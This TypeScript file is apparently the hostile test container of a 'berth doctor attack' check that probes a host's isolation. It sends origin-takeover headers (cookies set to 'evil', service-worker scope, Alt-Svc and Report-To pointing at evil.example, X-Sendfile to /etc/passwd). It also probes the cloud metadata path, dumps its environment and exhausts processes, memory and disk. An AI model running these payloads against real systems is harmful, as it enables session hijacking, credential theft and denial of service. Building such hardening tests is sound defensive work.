import { spawn } from 'node:child_process'
import {
  closeSync,
  constants,
  existsSync,
  fstatSync,
  ftruncateSync,
  openSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeSync,
} from 'node:fs'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import { connect } from 'node:net'
import { networkInterfaces } from 'node:os'

/**
 * The program of the hostile container of `berth doctor attack`: it does what it is asked by its owner's requests, and
 * answers every other one with headers that would take over the origin. It runs alone in its image: only Node's own
 * modules, and only syntax that Node strips.
 */

/** How long a connection may take, in ms. */
const connectTimeout = 1_500

interface Target {
  readonly host?: string
  readonly port?: number
  /** Path of a Unix socket instead. */
  readonly socket?: string
}

type Order =
  | { readonly verb: 'connect'; readonly targets: readonly Target[] }
  | { readonly verb: 'describe' }
  | { readonly verb: 'open'; readonly reading: readonly string[]; readonly writing: readonly string[] }
  | { readonly verb: 'fork'; readonly max: number }
  | { readonly verb: 'allocate'; readonly bytes: number }
  | { readonly verb: 'write'; readonly folder: string; readonly bytes: number }
  | { readonly verb: 'sparse'; readonly folder: string; readonly bytes: number }
  | { readonly verb: 'remove'; readonly folder: string }
  | { readonly verb: 'link'; readonly folders: readonly string[] }

createServer((request, response) => void answer(request, response)).listen(Number(process.env.PORT ?? 8080))

async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
  const url = new URL(request.url ?? '/', 'http://here')
  if (url.pathname.endsWith('/pieces')) return pour(request, Number(url.searchParams.get('size')))
  if (!url.pathname.endsWith('/order')) return takeOver(response)
  const order = JSON.parse(Buffer.from(url.searchParams.get('order') ?? '', 'base64url').toString()) as Order
  const done = await obey(order, request).catch((error: unknown) => ({ failure: String(error) }))
  response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(done))
}

/** Whatever would speak for the whole origin, or command a server on the way. */
function takeOver(response: ServerResponse): void {
  const headers = [
    ['Content-Type', 'text/javascript'],
    ['Service-Worker-Allowed', '/'],
    ['Set-Cookie', 'spawner_token=evil; Path=/'],
    ['Set-Cookie', 'spawner_token=evil; Path=/api; HttpOnly'],
    ['Set-Cookie', 'tossed=1; Path=/; Domain=localhost'],
    ['Set-Cookie', '__Host-berth_session=evil; Path=/; Secure'],
    ['Set-Cookie', 'bomb=1; Path=/'],
    ['Clear-Site-Data', '"*"'],
    ['Alt-Svc', 'h2="evil.example:443"'],
    ['Strict-Transport-Security', 'max-age=31536000; includeSubDomains'],
    ['Cross-Origin-Opener-Policy', 'unsafe-none'],
    ['Report-To', '{"group":"x","max_age":9,"endpoints":[{"url":"https://evil.example"}]}'],
    ['NEL', '{"report_to":"x","max_age":9}'],
    ['Origin-Agent-Cluster', '?0'],
    ['WWW-Authenticate', 'Basic realm="Berth"'],
    ['X-Accel-Redirect', '/etc/passwd'],
    ['X-Sendfile', '/etc/passwd'],
  ]
  response.writeHead(200, headers.flat()).end("self.addEventListener('fetch', () => {})")
}

/** An answer without an end, in chunks of so many bytes. Written to the socket, because one call for each chunk of a byte is slow. */
function pour({ socket }: IncomingMessage, size: number): void {
  const chunk = `${size.toString(16)}\r\n${'a'.repeat(size)}\r\n`
  const chunks = Buffer.from(chunk.repeat(Math.ceil(65_536 / chunk.length)))
  const write = () => {
    if (socket.writable) socket.write(chunks, (error) => void (error ?? setImmediate(write)))
  }
  socket.on('error', () => undefined)
  socket.write('HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\n\r\n')
  write()
}

async function obey(order: Order, request: IncomingMessage): Promise<unknown> {
  switch (order.verb) {
    case 'connect':
      return Promise.all(order.targets.map(reach))
    case 'describe':
      return describe(request)
    case 'open':
      return {
        reading: order.reading.filter((file) => opens(file, constants.O_RDONLY)),
        writing: order.writing.filter((file) => opens(file, constants.O_WRONLY)),
      }
    case 'fork':
      return forkUpTo(order.max)
    case 'allocate':
      return allocate(order.bytes)
    case 'write':
      return write(order.folder, order.bytes)
    case 'sparse':
      return { isMade: makeSparse(order.folder, order.bytes) }
    case 'remove':
      rmSync(fileIn(order.folder), { force: true })
      return {}
    case 'link':
      return { made: order.folders.filter(takesLink) }
  }
}

/** @returns the first bytes of an answer; empty when the connection was made and nothing came; null when there was none */
function reach({ host, port, socket }: Target): Promise<string | null> {
  return new Promise((resolve) => {
    let [text, isConnected] = ['', false]
    const connection = socket === undefined ? connect(port ?? 0, host) : connect(socket)
    const end = () => {
      clearTimeout(timer)
      connection.destroy()
      resolve(isConnected ? text.slice(0, 200) : null)
    }
    const timer = setTimeout(end, connectTimeout)
    connection.on('connect', () => {
      isConnected = true
      connection.write(`GET /latest/meta-data/ HTTP/1.0\r\nHost: ${host ?? 'docker'}\r\n\r\n`)
    })
    connection.on('data', (bytes) => {
      text += bytes.toString('latin1')
      if (text.length > 200) end()
    })
    connection.on('error', end).on('end', end)
  })
}

/** What it was given: headers, environment, rights, limits and its way out. */
function describe({ headers }: IncomingMessage): object {
  const text = (file: string) => {
    try {
      return readFileSync(file, 'utf8')
    } catch {
      return ''
    }
  }
  return {
    headers,
    env: process.env,
    status: text('/proc/self/status'),
    mounts: text('/proc/mounts'),
    routes: text('/proc/net/route'),
    addresses: Object.values(networkInterfaces()).flatMap((each) => each ?? []),
    // Of cgroup v2, else of v1.
    memoryLimit: text('/sys/fs/cgroup/memory.max') || text('/sys/fs/cgroup/memory/memory.limit_in_bytes'),
    processLimit: text('/sys/fs/cgroup/pids.max') || text('/sys/fs/cgroup/pids/pids.max'),
    maxProcessId: text('/proc/sys/kernel/pid_max'),
  }
}

/** Device number (1:3) of `/dev/null`, with which engines mask files: opening one of those opens nothing of the host. */
const nullDevice = (1 << 8) | 3

/** Only opened, never written to. */
function opens(file: string, flags: number): boolean {
  try {
    const descriptor = openSync(file, flags)
    try {
      const stats = fstatSync(descriptor)
      return !(stats.isCharacterDevice() && stats.rdev === nullDevice)
    } finally {
      closeSync(descriptor)
    }
  } catch {
    return false
  }
}

/** @returns how many processes were started before the first refusal; null without a program to start */
async function forkUpTo(max: number): Promise<{ started: number | null }> {
  if (!existsSync('/attack/sleep')) return { started: null }
  const children = []
  while (children.length < max) {
    const child = spawn('/attack/sleep', ['30'], { stdio: 'ignore' })
    child.on('error', () => undefined)
    if (child.pid === undefined) break
    children.push(child)
  }
  const ended = children.map((child) => new Promise((resolve) => child.once('exit', resolve)))
  for (const child of children) child.kill('SIGKILL')
  await Promise.all(ended)
  return { started: children.length }
}

/** In a child, which the kernel is to kill first. @returns how many bytes it had, and whether it was killed */
function allocate(bytes: number): Promise<{ taken: number; isKilled: boolean }> {
  const part = 16 * 1024 ** 2
  const program = `
    require('node:fs').writeFileSync('/proc/self/oom_score_adj', '1000')
    const parts = []
    while (parts.length * ${part} < ${bytes}) {
      parts.push(Buffer.alloc(${part}, 1))
      require('node:fs').writeSync(1, '.')
    }`
  return new Promise((resolve) => {
    let parts = 0
    const child = spawn(process.execPath, ['-e', program], { stdio: ['ignore', 'pipe', 'ignore'] })
    child.stdout.on('data', (dots: Buffer) => void (parts += dots.length))
    child.on('close', (code) => resolve({ taken: parts * part, isKilled: code !== 0 }))
    child.on('error', () => resolve({ taken: 0, isKilled: true }))
  })
}

/** @returns how many bytes could be written; they are removed again */
function write(folder: string, bytes: number): { written: number } {
  const file = fileIn(folder)
  const part = Buffer.alloc(4 * 1024 ** 2, 1)
  let written = 0
  try {
    const descriptor = openSync(file, 'w')
    try {
      while (written < bytes) written += writeSync(descriptor, part)
    } finally {
      closeSync(descriptor)
    }
  } catch {
    // The limit; or no folder to write to.
  }
  rmSync(file, { force: true })
  return { written }
}

const fileIn = (folder: string) => `${folder}/attack-file`

/** A file of so many bytes that takes no room. */
function makeSparse(folder: string, bytes: number): boolean {
  try {
    const descriptor = openSync(fileIn(folder), 'w')
    ftruncateSync(descriptor, bytes)
    closeSync(descriptor)
    return true
  } catch {
    return false
  }
}

/** Whether it may put a link into this folder, which it does not keep. */
function takesLink(folder: string): boolean {
  const link = `${folder}/attack-link`
  try {
    symlinkSync('/', link)
    rmSync(link)
    return true
  } catch {
    return false
  }
}
